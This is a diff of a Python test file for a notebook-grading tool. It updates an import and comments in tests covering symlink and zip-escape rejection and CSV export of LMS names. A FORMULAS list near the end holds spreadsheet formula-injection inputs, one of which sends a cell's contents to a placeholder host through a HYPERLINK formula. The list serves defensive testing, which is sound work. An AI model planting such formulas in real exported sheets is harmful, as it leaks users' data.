@@ -12,7 +12,7 @@ from pathlib import Path
 import nbformat
 import pytest
 
-from autograder.build import source_notebook
+from autograder.course.build import source_notebook
 from autograder.engine import lms
 from autograder.engine.gradebook import Final
 from autograder.engine.intake import NotebookError, discover, read_notebook
@@ -102,7 +102,7 @@ def test_files_of_other_assignments_are_set_aside_not_rejected(tmp_path: Path, t
     assert aside.reason == "a file of 02_small, not graded in this run"
 
 
-# -- regular files only (issue 7, item 4) -------------------------------------------------------------
+# -- regular files only -------------------------------------------------------------
 
 
 def test_symlinks_devices_and_fifos_are_rejected_and_never_followed(tmp_path: Path, text: str) -> None:
@@ -149,7 +149,7 @@ def test_zip_entries_that_are_links_or_escape_are_rejected(tmp_path: Path, text:
     assert not (tmp_path / "scratch" / "unzipped" / "eve_01_tiny.ipynb").exists()
 
 
-# -- damaged but recoverable notebooks (issue 7, item 8) ----------------------------------------------
+# -- damaged but recoverable notebooks ----------------------------------------------
 
 
 def v3(text: str) -> str:
@@ -292,7 +292,7 @@ def test_the_moodle_files(tmp_path: Path) -> None:
     ]
 
 
-#: What a Canvas sortable name, a Moodle full name or a roster field may hold (issue 16).
+#: What a Canvas sortable name, a Moodle full name or a roster field may hold.
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&C3)', "@SUM(1)", "-2+3", "+1", "\tcmd", "\rcmd"]
 
 
